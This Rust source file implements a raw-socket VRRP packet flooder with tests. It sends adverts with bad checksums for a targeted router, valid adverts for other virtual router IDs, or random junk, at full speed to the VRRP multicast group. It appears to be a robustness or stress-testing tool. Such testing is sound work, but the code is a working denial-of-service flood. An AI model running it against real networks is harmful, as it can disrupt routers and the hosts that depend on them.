//! Sends packets of VRRP that nobody asked for, as fast as one core can.

use nix::errno::Errno;
use pnet::util::checksum;
use serde::Serialize;
use socket2::{Domain, Protocol, SockAddr, Socket, Type};
use std::io;
use std::net::{Ipv4Addr, SocketAddrV4};
use std::time::{Duration, Instant};

pub(crate) const VRRP: i32 = 112;
pub(crate) const GROUP: Ipv4Addr = Ipv4Addr::new(224, 0, 0, 18);
/// Prepared and sent in turn, so that making them costs nothing.
const VARIETY: u8 = 64;

/// What to send.
#[derive(Clone, Copy, Debug, clap::ValueEnum)]
pub enum Kind {
    /// Adverts of the router attacked, with a wrong checksum
    BadChecksum,
    /// Flawless adverts of other routers
    Foreign,
    /// Nothing that makes sense
    Random,
}

/// What was sent.
#[derive(Debug, Serialize)]
pub struct Report {
    pub sent: u64,
    /// The kernel had no room for so many.
    pub refused: u64,
    pub lasted_ms: f64,
}

/// Floods from an own address for so long.
pub fn flood(kind: Kind, from: Ipv4Addr, vrid: u8, length: Duration) -> io::Result<Report> {
    let socket = socket(from)?;
    let to: SockAddr = SocketAddrV4::new(GROUP, 0).into();
    let packets: Vec<Vec<u8>> = (0..VARIETY).map(|number| packet(kind, number, from, vrid)).collect();
    let (mut sent, mut refused) = (0, 0);
    let began = Instant::now();
    while began.elapsed() < length {
        for packet in &packets {
            match socket.send_to(packet, &to) {
                Ok(_) => sent += 1,
                Err(error) if error.raw_os_error() == Some(Errno::ENOBUFS as i32) => refused += 1,
                Err(error) => return Err(error),
            }
        }
    }
    Ok(Report { sent, refused, lasted_ms: began.elapsed().as_secs_f64() * 1e3 })
}

/// Sends as a router does, from an own address.
pub(crate) fn socket(from: Ipv4Addr) -> io::Result<Socket> {
    let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(VRRP)))?;
    socket.set_multicast_if_v4(&from)?;
    socket.set_multicast_ttl_v4(255)?;
    socket.set_multicast_loop_v4(false)?;
    socket.bind(&SocketAddrV4::new(from, 0).into())?;
    Ok(socket)
}

fn packet(kind: Kind, number: u8, from: Ipv4Addr, vrid: u8) -> Vec<u8> {
    match kind {
        Kind::BadChecksum => {
            let mut packet = advert(vrid, from);
            packet[6] ^= number | 1;
            packet
        }
        Kind::Foreign => advert(vrid.wrapping_add(number % 128).wrapping_add(1).max(1), from),
        Kind::Random => random(number),
    }
}

/// Version 3, priority 254, one address, once a second.
pub(crate) fn advert(vrid: u8, from: Ipv4Addr) -> Vec<u8> {
    let mut packet = vec![0x31, vrid, 254, 1, 0, 100, 0, 0];
    packet.extend(from.octets());
    // Over the pseudo-header too, as RFC 5798 has it and most send it.
    let header = [&from.octets()[..], &GROUP.octets(), &[0, 112, 0, 12]].concat();
    let sum = checksum(&[header, packet.clone()].concat(), usize::MAX);
    packet[6..8].copy_from_slice(&sum.to_be_bytes());
    packet
}

/// The same bytes each time: a multiplicative generator, good enough to make no sense.
fn random(number: u8) -> Vec<u8> {
    let mut state = u64::from(number) + 0x9e37_79b9_7f4a_7c15;
    let next = |_| {
        state = state.wrapping_mul(0xd134_2543_de82_ef95).wrapping_add(1);
        state.to_be_bytes()[0]
    };
    (0..8 + number % 56).map(next).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_advert_of_another_router_is_flawless_and_never_the_routers_own() {
        let from = Ipv4Addr::new(10, 0, 0, 9);
        for number in 0..VARIETY {
            let packet = packet(Kind::Foreign, number, from, 51);
            assert_ne!(packet[1], 51);
            let header = [&from.octets()[..], &GROUP.octets(), &[0, 112, 0, 12]].concat();
            assert_eq!(checksum(&[header, packet].concat(), usize::MAX), 0);
        }
    }

    #[test]
    fn no_bad_checksum_is_right_by_chance() {
        let from = Ipv4Addr::new(10, 0, 0, 9);
        for number in 0..VARIETY {
            assert_ne!(packet(Kind::BadChecksum, number, from, 51)[6..8], advert(51, from)[6..8]);
        }
    }
}
